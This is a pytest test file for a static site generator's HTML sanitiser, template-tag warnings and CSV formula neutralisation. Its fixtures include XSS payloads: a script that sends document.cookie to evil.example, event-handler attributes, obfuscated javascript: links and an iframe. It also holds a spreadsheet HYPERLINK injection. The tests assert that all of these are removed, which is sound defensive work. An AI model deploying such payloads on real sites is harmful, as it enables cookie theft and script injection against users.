"""Raw HTML and foreign markup in pages: the allow-list when site.yml sets allowRawHTML, the text kept
when it does not, addresses that run code refused, other generators' template tags reported, and the
CSV of `report pages` safe to open in a spreadsheet. Every check reads the built pages with lxml."""
import csv
import io
import re

from lxml import html as lxml_html

from conftest import run

FRONT = '---\ntitle: "{title}"\ndescription: "Une page pour essayer ce qu\'une page importée peut contenir."\ndate: 2025-01-15\n---\n\n'

HOSTILE = FRONT.format(title="HTML hostile") + """\
<script>document.location = "https://evil.example/?" + document.cookie</script>

<img src="carte.png" onerror="alert(1)" alt="Carte des pays">

<a href="jav&#x09;ascript:alert(1)">Lien piégé</a> et <a href="&#106;avascript:alert(2)">un autre</a>

<div style="position:fixed" onclick="alert(3)">Texte gardé <iframe src="https://evil.example/">cadre</iframe> fin</div>

<svg onload="alert(4)"><text>dessin</text></svg>

<style>body { display: none }</style>

Un [lien Markdown](javascript:alert(5)), <javascript:alert(6)>, [masqué](jav&#x09;ascript:alert(7)) et ![image](data:image/svg+xml;base64,PHN2Zz4=).

<details>
<summary>Titre du volet</summary>

Le contenu du volet.

</details>

Une <abbr title="Organisation internationale du travail">OIT</abbr>, x<sup>2</sup> et <a href="https://www.cleiss.fr/" onmouseover="alert(8)">le Cleiss</a>.

<table><caption>Cotisations</caption><tr><th scope="col">Pays</th></tr><tr><td colspan="1">Chili</td></tr></table>

</div></main>
"""

TEMPLATES = FRONT.format(title="Balises d'autres générateurs") + """\
Voir {{< ref "contact.md" >}} et {{% notice info %}}.

Titre : {{ .Title }}, {% include encadre.html %}, {{ page.title }} et {{ get_url(path="@/contact.md") }}.

Du code `{{ .Title }}` ne compte pas :

```
{% raw %}{{< ref "x.md" >}}{% endraw %}
```
"""

# Lines of each page, counted from the top of the file (front matter included).
FIRST = 7


def write_page(site, relative, text):
    path = site / "Content" / relative
    path.write_text(text, encoding="utf-8")
    return path


def allow_raw_html(site, allowed):
    config = site / "site.yml"
    text = config.read_text(encoding="utf-8")
    config.write_text(re.sub(r"(?m)^allowRawHTML: \w+", f"allowRawHTML: {'true' if allowed else 'false'}", text), encoding="utf-8")


def build(site, tmp_path):
    output = tmp_path / "out"
    result = run("build", "--source", str(site), "--output", str(output))
    assert result.returncode == 0, result.stderr
    return output, result.stderr


def prose(output, url):
    page = lxml_html.parse(str(output / url / "index.html")).getroot()
    return page.xpath('//div[@class="prose"]')[0]


def warnings(stderr, file):
    return [line for line in stderr.splitlines() if line.startswith(f"Content/{file}:") and ": warning: " in line]


def test_allowed_raw_html_keeps_the_allow_list_and_drops_the_rest_with_a_warning_each(site_copy, tmp_path):
    allow_raw_html(site_copy, True)
    write_page(site_copy, "fr/hostile.md", HOSTILE)
    output, stderr = build(site_copy, tmp_path)
    body = prose(output, "fr/hostile")

    # Nothing that runs or restyles the page is left.
    assert not body.xpath("//script | //style | //iframe | //svg | //object | //embed")
    assert not body.xpath(".//@style")
    assert not [a for a in body.xpath(".//@*") if a.attrname.startswith("on")]
    for address in body.xpath(".//@href | .//@src"):
        assert not re.match(r"\s*(javascript|vbscript|data):", re.sub(r"[\t\n\r]", "", address), re.I), address
    assert "evil.example" not in lxml_html.tostring(body, encoding="unicode")
    # The text of the autolink <javascript:alert(6)> stays, as text.
    assert "alert(" not in body.text_content().replace("javascript:alert(6)", "")

    # The allowed markup stays, with its allowed attributes.
    assert body.xpath("string(.//details/summary)") == "Titre du volet"
    assert body.xpath("string(.//details/p)") == "Le contenu du volet."
    assert body.xpath(".//abbr/@title") == ["Organisation internationale du travail"]
    assert body.xpath("string(.//sup)") == "2"
    assert body.xpath(".//a[text()='le Cleiss']/@href") == ["https://www.cleiss.fr/"]
    assert body.xpath(".//img/@alt") == ["Carte des pays"] and body.xpath(".//img/@src") == ["carte.png"]
    assert body.xpath("string(.//table/caption)") == "Cotisations" and body.xpath(".//td/@colspan") == ["1"]
    assert "Texte gardé" in body.text_content() and "Lien piégé" in body.text_content()
    assert "lien Markdown" in body.text_content() and not body.xpath(".//a[contains(., 'lien Markdown')]")
    # A stray </div></main> does not close the theme's elements: the page keeps one <main> holding its footer line.
    page = lxml_html.parse(str(output / "fr/hostile/index.html")).getroot()
    assert page.xpath("count(//main//p[@class='last-updated'])") == 1

    found = warnings(stderr, "fr/hostile.md")
    expected = [
        (FIRST, "raw HTML <script> is not published"),
        (FIRST + 2, "the attribute onerror= of raw HTML <img>"),
        (FIRST + 4, "the address 'javascript:alert(1)' of raw HTML <a href>"),
        (FIRST + 4, "the address 'javascript:alert(2)' of raw HTML <a href>"),
        (FIRST + 6, "the attribute style= of raw HTML <div>"),
        (FIRST + 6, "the attribute onclick= of raw HTML <div>"),
        (FIRST + 6, "raw HTML <iframe> is not published"),
        (FIRST + 8, "raw HTML <svg> is not published"),
        (FIRST + 10, "raw HTML <style> is not published"),
        (FIRST + 12, "the link to a 'javascript:' address"),
        (FIRST + 12, "the image to a 'data:' address"),
        (FIRST + 21, "the attribute onmouseover= of raw HTML <a>"),
    ]
    for line, message in expected:
        assert any(f"fr/hostile.md:{line}:" in warning and message in warning for warning in found), (line, message, found)
    assert sum("the link to a 'javascript:' address" in warning for warning in found) == 3
    assert len(found) == len(expected) + 2, "\n".join(found)


def test_without_raw_html_details_keep_their_summary_text(site_copy, tmp_path):
    allow_raw_html(site_copy, False)
    write_page(site_copy, "fr/hostile.md", HOSTILE)
    output, stderr = build(site_copy, tmp_path)
    body = prose(output, "fr/hostile")
    text = body.text_content()
    assert "Titre du volet" in text and "Le contenu du volet." in text and "Carte des pays" in text
    assert not body.xpath(".//details | .//abbr | .//script | .//@style | .//img")
    assert "alert(" not in text.replace("javascript:alert(6)", "")
    found = warnings(stderr, "fr/hostile.md")
    assert any(f"fr/hostile.md:{FIRST + 14}:1: warning: raw HTML is not published: <details>, <summary> left out, the text kept" in w for w in found)
    assert any(f"fr/hostile.md:{FIRST}:1: warning: raw HTML <script> is not published" in w for w in found)


def test_template_tags_of_other_generators_are_reported_outside_code_only(site_copy, tmp_path):
    write_page(site_copy, "fr/gabarits.md", TEMPLATES)
    output, stderr = build(site_copy, tmp_path)
    found = warnings(stderr, "fr/gabarits.md")
    assert [re.search(r":(\d+:\d+): warning: a template tag of another generator \(([^)]*)\)", w).groups() for w in found] == [
        ("7:6", "Hugo shortcode 'ref'"), ("7:34", "Hugo shortcode 'notice'"), ("9:9", "template expression '.Title'"),
        ("9:23", "Jekyll or Liquid tag 'include'"), ("9:51", "template expression 'page.title'"),
        ("9:71", "template expression 'get_url'"),
    ], "\n".join(found)
    assert "a link to the page's file" in stderr
    # They are published as the text they are: the warning is what tells the editor.
    assert '{{< ref "contact.md" >}}' in prose(output, "fr/gabarits").text_content()


def test_report_pages_csv_quotes_line_breaks_and_neutralises_formulas(site_copy):
    before = run("report", "pages", "--source", str(site_copy), "--format", "csv")
    pages = len(list(csv.DictReader(io.StringIO(before.stdout, newline=""))))
    write_page(site_copy, "fr/formule.md", FRONT.format(title='=HYPERLINK(\\"https://evil.example\\";\\"Cliquez\\")\\nsur deux lignes') + "Du texte.\n")
    result = run("report", "pages", "--source", str(site_copy), "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert len(rows) == pages + 1
    [row] = [row for row in rows if row["file"].endswith("fr/formule.md")]
    assert row["title"] == "'=HYPERLINK(\"https://evil.example\";\"Cliquez\")\nsur deux lignes"
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r", row
